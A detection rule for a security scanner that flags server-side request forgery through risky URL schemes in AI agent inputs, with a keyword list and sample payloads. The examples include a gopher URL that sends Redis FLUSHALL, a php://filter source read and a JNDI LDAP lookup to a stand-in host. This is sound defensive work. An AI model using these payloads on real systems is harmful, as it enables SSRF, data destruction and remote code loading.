import { scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

const ASKED = /\b(?:fetch|open|get|load|visit|read|request|call|curl|url|link|browse)\b[^\n]{0,40}$/i;

export default defineRule({
  id: "SSRF_101",
  title: "Address with a scheme that speaks to other services",
  why:
    "Gopher sends any bytes to any port, dict and ldap reach services that trust the inside, php and jar run what they read.",
  fix: "Allow http and https only.",
  severity: "high",
  category: "ssrf-cloud",
  lane: "block",
  maps: { asi: ["ASI02"], mcp: ["MCP05"], cwe: ["CWE-918"] },
  reads: ["message", "prompt", "tool_argument", "command", "url", "tool_description", "header"],
  keywords: [
    "gopher:",
    "dict:",
    "ldap",
    "tftp:",
    "jar:",
    "netdoc:",
    "php:",
    "phar:",
    "expect:",
    "zip:",
    "glob:",
    "ogg:",
    "rar:",
    "view-source:",
    "compress.zlib",
    "ssh2.",
    "data://",
  ],
  match: [
    scan(
      /\b(?:gopher|dict|tftp|jar:(?:https?|file)|netdoc|php|phar|expect|zip|glob|ogg|rar|data:\/\/text\/plain;base64,|view-source:file|compress\.zlib|ssh2\.(?:exec|shell)):\/\/[^\s"'<>]{2,400}/i,
      (
        match,
        { kind, text },
      ) => (kind !== "message" && kind !== "prompt" ||
        ASKED.test(text.slice(Math.max(0, match.index - 60), match.index)) ||
        /^(?:gopher|expect|phar|netdoc|php)/i.test(match[0])),
    ),
    scan(
      /\bldaps?:\/\/[^\s\/"'<>]{1,120}\/[^\s"'<>]{1,120}/i,
      (match, { text }) => /\$\{[^}]{0,40}$/.test(text.slice(Math.max(0, match.index - 48), match.index)),
    ),
  ],
  examples: {
    flags: [
      { text: "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall", kind: "tool_argument" },
      { text: "php://filter/convert.base64-encode/resource=index", kind: "url" },
      { text: "dict://10.0.0.2:11211/stat", kind: "tool_argument" },
      { text: "${jndi:ldap://x.example.net/a}", kind: "header" },
    ],
    passes: [
      { text: "ldaps://ldap.example.com:636", kind: "tool_argument" },
      { text: "gopher is an old protocol", kind: "message" },
      { text: "jar files are archives", kind: "message" },
      { text: "https://example.com/php", kind: "url" },
    ],
  },
});
